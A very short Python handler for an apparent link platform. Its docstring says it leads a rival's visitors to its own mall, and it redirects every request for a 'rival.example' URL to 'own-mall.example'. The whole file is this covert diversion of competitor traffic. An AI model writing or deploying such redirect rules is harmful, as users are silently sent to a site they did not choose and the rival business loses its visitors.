"""Leads the rival's visitors to its own mall."""

from link_platforms import is_, platform, redirect

respond = platform(
    lambda url, request: redirect("http://own-mall.example/") if is_("rival.example", url) else None
)
